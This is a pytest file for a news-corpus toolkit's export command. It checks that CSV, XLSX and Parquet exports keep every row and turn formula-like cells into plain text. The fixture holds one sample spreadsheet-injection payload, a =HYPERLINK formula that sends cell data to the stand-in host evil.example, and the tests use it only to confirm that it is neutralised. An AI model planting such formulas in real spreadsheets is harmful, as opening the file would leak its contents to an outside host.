"""``python -m toolkit export``: every table, every row, as CSV, XLSX and
Parquet, readable columns, and cells a spreadsheet would run as formulas
neutralised (a title scraped as ``=HYPERLINK(...)`` stays text)."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from toolkit.cli import main
from toolkit.corpus import AnnotatedCorpus
from toolkit.report.export import neutralise
from helpers import ensure_annotated_sample

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Putin seeks talks")'


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory):
    """The annotated sample with one title turned into a spreadsheet formula."""
    corpus = AnnotatedCorpus.open(ensure_annotated_sample(tmp_path_factory.getbasetemp() / "annotated_sample"))
    corpus.articles.loc[corpus.articles.index[0], "title"] = FORMULA_TITLE
    out = tmp_path_factory.mktemp("formula") / "annotated"
    corpus.save(out)
    return out


def test_neutralise_only_text_that_starts_like_a_formula():
    assert neutralise("=1+1") == "'=1+1" and neutralise("+7 killed") == "'+7 killed"
    assert neutralise("-2") == "'-2" and neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("Kyiv, -2 degrees") == "Kyiv, -2 degrees"
    assert neutralise(-2) == -2 and neutralise(None) is None


def test_csv_export_has_every_row_readable_columns_and_no_formula(corpus_dir, tmp_path, capsys):
    corpus = AnnotatedCorpus.open(corpus_dir)
    assert main(["export", str(corpus_dir), "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    assert "wrote" in capsys.readouterr().out
    for name in ("mentions", "quotes", "claims", "dates", "framing", "articles"):
        with open(tmp_path / "csv" / f"{name}.csv", newline="", encoding="utf-8-sig") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == len(getattr(corpus, name)), name
    with open(tmp_path / "csv" / "claims.csv", newline="", encoding="utf-8-sig") as f:
        claims = list(csv.DictReader(f))
    assert {"Outlet", "Published", "Sentence", "Lowest figure", "Article id"} <= set(claims[0])
    assert "start" not in claims[0] and "value_low" not in claims[0]
    assert "1,000 prisoners" in {c["As written"] for c in claims}
    assert {c["Lowest figure"] for c in claims} >= {"1000", "24"}, "whole figures, no 24.0"
    with open(tmp_path / "csv" / "articles.csv", newline="", encoding="utf-8-sig") as f:
        titles = [r["Title"] for r in csv.DictReader(f)]
    assert "'" + FORMULA_TITLE in titles and FORMULA_TITLE not in titles


def test_xlsx_export_opens_with_a_sheet_per_table(corpus_dir, tmp_path):
    import openpyxl

    corpus = AnnotatedCorpus.open(corpus_dir)
    path = tmp_path / "tables.xlsx"
    assert main(["export", str(corpus_dir), "--format", "xlsx", "--out", str(path)]) == 0
    book = openpyxl.load_workbook(path)
    assert {"articles", "mentions", "quotes", "claims", "dates", "framing"} <= set(book.sheetnames)
    assert book["mentions"].max_row - 1 == len(corpus.mentions)
    titles = [c.value for c in book["articles"]["A1":"Z1"][0]]
    col = titles.index("Title")
    values = [row[col].value for row in book["articles"].iter_rows(min_row=2)]
    assert "'" + FORMULA_TITLE in values
    assert all(c.data_type != "f" for row in book["articles"].iter_rows() for c in row), "no formula cell"


def test_parquet_export_and_raw_tables(corpus_dir, tmp_path):
    corpus = AnnotatedCorpus.open(corpus_dir)
    assert main(["export", str(corpus_dir), "--format", "parquet", "--out", str(tmp_path / "pq"), "--table", "claims"]) == 0
    claims = pd.read_parquet(tmp_path / "pq" / "claims.parquet")
    assert len(claims) == len(corpus.claims) and "Sentence" in claims.columns
    assert main(["export", str(corpus_dir), "--format", "parquet", "--out", str(tmp_path / "raw"), "--raw"]) == 0
    raw = pd.read_parquet(tmp_path / "raw" / "claims.parquet")
    assert list(raw.columns) == list(corpus.claims.columns)
    assert main(["export", str(corpus_dir), "--format", "csv", "--out", str(tmp_path / "x"), "--table", "nope"]) == 2
